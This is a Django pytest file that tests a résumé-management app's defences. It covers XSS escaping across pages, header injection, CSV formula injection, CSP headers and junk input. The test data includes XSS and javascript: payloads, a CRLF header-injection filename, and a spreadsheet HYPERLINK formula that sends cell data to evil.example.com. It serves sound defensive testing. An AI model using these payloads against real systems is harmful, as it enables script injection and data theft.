"""What a résumé says is text, on every page and in every file; and the headers that hold if we slip."""

import csv
import io
import re

import pytest
from django.core.files.base import ContentFile
from django.db import models
from django.urls import reverse

from candidates.models import HISTORIES, Candidate, CandidateSkill, Note, Tag, Tagging
from candidates.models.partial_date import PartialDateField
from candidates.search import index
from tests.making import make_batch, make_candidate, make_file, make_shortlist, make_skill, make_user

pytestmark = pytest.mark.django_db

EVIL = '<script>alert("1")</script><img src=x onerror=alert(1)>{{ 7|add:7 }}'
LINK = "javascript:alert(1)"
RAW = re.compile(r"<script>alert|<img src=x|javascript:alert", re.IGNORECASE)


def evil_for(field):
    """The worst that a field of text can hold; None for fields that hold no free text."""
    if isinstance(field, PartialDateField) or field.choices or field.name in ("entry", "key", "color"):
        return None
    if isinstance(field, models.TextField):
        return EVIL
    if isinstance(field, models.CharField):
        return LINK if field.name == "url" else EVIL[: field.max_length]
    return None


def evil_fields(model):
    return {field.name: words for field in model._meta.concrete_fields if (words := evil_for(field)) is not None}


def evil_person():
    """Somebody whose every field is an attack."""
    person = make_candidate(**{**evil_fields(Candidate), "profiles": [LINK, EVIL]})
    places = [{"page": 1, "line": 1, "start": 0, "end": 9, "boxes": [[60, 60, 500, 74]]}]
    evidence = {name: {"confidence": 0.5, "places": places} for name in evil_fields(Candidate)}
    Candidate.objects.filter(pk=person.pk).update(evidence=evidence)
    for model in HISTORIES:
        words = evil_fields(model)
        proof = {name: {"confidence": 0.5, "places": places} for name in words}
        model.objects.create(candidate=person, entry="1", evidence=proof, **words)
    skill = make_skill(EVIL[:90])
    CandidateSkill.objects.create(candidate=person, skill=skill, written=EVIL[:90], level=EVIL[:30])
    Tagging.objects.create(candidate=person, tag=Tag.objects.create(name=EVIL[:50]))
    Note.objects.create(candidate=person, text=EVIL)
    make_file(person, lines=[EVIL, EVIL], name=EVIL[:200], format="txt", batch=make_batch(EVIL[:90], source=EVIL[:50]))
    index.index_candidate(person)
    return person


@pytest.fixture
def admin(client):
    user = make_user("root", group="Admin", is_staff=True, first_name=EVIL[:150])
    client.force_login(user)
    return client


def page_of(client, address, **data):
    response = client.get(address, data)
    assert response.status_code == 200, address
    return response.content.decode()


def test_every_page_shows_an_attack_as_text(admin):
    person, other = evil_person(), make_candidate("乙")
    shortlist = make_shortlist(EVIL[:90], candidates=[person, other])
    shortlist.members.update(note=EVIL)
    file = person.files.get()
    pages = {
        "list": page_of(admin, reverse("list")),
        "search": page_of(admin, reverse("list"), q="script"),
        "search for an attack": page_of(admin, reverse("list"), q=EVIL, city=EVIL, preview=person.pk),
        "preview": page_of(admin, reverse("preview", args=[person.pk])),
        "facet": page_of(admin, reverse("facet", args=["city"])),
        "person": page_of(admin, person.get_absolute_url()),
        "person, lit": page_of(admin, person.get_absolute_url(), field="name"),
        "compare": page_of(admin, reverse("compare"), candidate=[person.pk, other.pk]),
        "shortlists": page_of(admin, reverse("shortlists")),
        "shortlist": page_of(admin, shortlist.get_absolute_url(), find=EVIL),
        "profiles": page_of(admin, reverse("profiles"), shortlist=shortlist.pk),
        "exports": page_of(admin, reverse("exports")),
        "batch": page_of(admin, file.batch.get_absolute_url()),
        "upload": page_of(admin, reverse("upload")),
        "admin site": page_of(admin, reverse("admin:candidates_candidate_change", args=[person.pk])),
    }
    assert [name for name, page in pages.items() if RAW.search(page) and not is_only_text(page)] == []
    silent = [
        name
        for name in ("list", "person", "compare", "shortlist", "profiles", "batch")
        if "&lt;script&gt;" not in pages[name]
    ]
    assert silent == []  # else the page did not show the attack at all, and proves nothing
    assert "{{ 7" in pages["person"]


def is_only_text(page):
    """Whether an address that runs a script stands in the page as words alone, never where a browser follows it."""
    in_attribute = re.search(r"(href|src|action|formaction|hx-[a-z]+)\s*=\s*[\"']?\s*javascript:", page, re.IGNORECASE)
    return not in_attribute and not re.search(r"<script>alert|<img src=x", page, re.IGNORECASE)


def test_messages_show_an_attack_as_text(admin):
    shortlist = make_shortlist(EVIL[:90], candidates=[make_candidate(EVIL[:90])])
    removed = admin.post(reverse("member_remove", args=[shortlist.members.get().pk]), follow=True)
    deleted = admin.post(reverse("shortlist_delete", args=[shortlist.pk]), follow=True)
    for response in (removed, deleted):
        assert "&lt;script&gt;" in response.content.decode()
        assert not RAW.search(response.content.decode())


def test_original_is_never_shown_inline(admin, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    file = make_file(make_candidate(), name=f"{EVIL[:20]}\r\nX-Evil: 1.html", format="html")
    file.content.save("resume.html", ContentFile(EVIL.encode()))
    response = admin.get(reverse("original", args=[file.pk]))
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "X-Evil" not in response.headers
    assert not response.headers["Content-Type"].startswith("text/html")


def test_formulas_of_a_resume_do_not_leave_as_formulas(admin):
    formula = '=HYPERLINK("http://evil.example.com?x="&A1)'
    person = make_candidate(formula, phone="+1+1", email="@SUM(A1)", city="-2+3", skills=[formula], tags=["＝1+1"])
    response = admin.get(reverse("export"), {"candidate": person.pk, "format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [cell for cell in rows[1] if cell.startswith(tuple("=+-@＝＋－＠\t\r"))] == []
    assert rows[1][0] == f"'{formula}"


@pytest.mark.parametrize("name", ["login", "list", "shortlists", "upload"])
def test_headers_of_every_page(admin, name):
    if name == "login":
        admin.logout()
    headers = admin.get(reverse(name)).headers
    policy = headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy and "http" not in policy
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin"


def test_our_pages_need_nothing_that_the_policy_forbids(client):
    """No inline script, no inline style, nothing from elsewhere: the browser would drop it without a word to us."""
    client.force_login(make_user(group="Admin"))
    person, other = make_candidate("甲", lines=["甲"]), make_candidate("乙")
    shortlist = make_shortlist(candidates=[person, other])
    addresses = [
        reverse("list"),
        reverse("shortlists"),
        reverse("upload"),
        person.get_absolute_url(),
        shortlist.get_absolute_url(),
        f"{reverse('compare')}?candidate={person.pk}&candidate={other.pk}",
        f"{reverse('profiles')}?candidate={person.pk}",
        reverse("exports"),
        person.files.get().batch.get_absolute_url(),
        reverse("password_change"),
    ]
    inline_script = r"<script(?![^>]*\ssrc=\"/)(?![^>]*\stype=\"application/json\")"  # data is no script
    forbidden = re.compile(rf"<style|\sstyle=|\son[a-z]+=|{inline_script}|(?:src|href)=\"(?:https?:)?//")
    assert [(address, found) for address in addresses if (found := forbidden.findall(page_of(client, address)))] == []


def test_no_template_marks_text_as_safe(settings):
    """`safe` and `autoescape off` are how raw text gets out."""
    templates = [path for path in (settings.BASE_DIR / "templates").rglob("*") if path.is_file()]
    assert len(templates) > 10
    unsafe = re.compile(r"\|\s*safe\b|autoescape\s+off|safeseq")
    assert [str(path) for path in templates if unsafe.search(path.read_text("utf-8"))] == []


@pytest.mark.parametrize("nonsense", ["9" * 30, "9" * 5000, "-1", "abc", "\x00", "²"])
def test_no_page_breaks_on_what_no_form_of_ours_sends(admin, nonsense):
    person = make_candidate(lines=["甲"])
    filters = ("q", "page", "preview", "tag", "batch", "years_min", "graduation_min", "graduation", "degree", "sort")
    gets = {
        reverse("list"): dict.fromkeys(filters, nonsense),
        person.get_absolute_url(): dict.fromkeys(("from", "field", "file"), nonsense),
        person.files.get().batch.get_absolute_url(): dict.fromkeys(("page", "state"), nonsense),
        make_shortlist().get_absolute_url(): dict.fromkeys(("page", "find"), nonsense),
        reverse("upload"): {"batch": nonsense},
        reverse("compare"): {"candidate": [nonsense, person.pk]},
        reverse("export"): {
            "all": "1",
            "query": f"tag={nonsense}&q={nonsense}",
            "column": nonsense,
            "format": nonsense,
        },
        reverse("export_progress"): dict.fromkeys(("ticket", "asked"), nonsense),
        reverse("exports"): {"page": nonsense},
        reverse("profiles"): dict.fromkeys(("candidate", "blind"), nonsense),
    }
    posts = {
        reverse("tag_add"): {"candidate": nonsense, "tag": nonsense},
        reverse("tag_remove"): {"candidate": person.pk, "tag": nonsense},
        reverse("compare_chosen"): {"candidate": nonsense},
        reverse("batch_retry", args=[person.files.get().batch_id]): {"file": nonsense},
        reverse("undo"): {"key": nonsense},
    }
    admin.raise_request_exception = False
    answers = {address: admin.get(address, data).status_code for address, data in gets.items()}
    answers |= {address: admin.post(address, data).status_code for address, data in posts.items()}
    assert {address: status for address, status in answers.items() if status >= 500} == {}
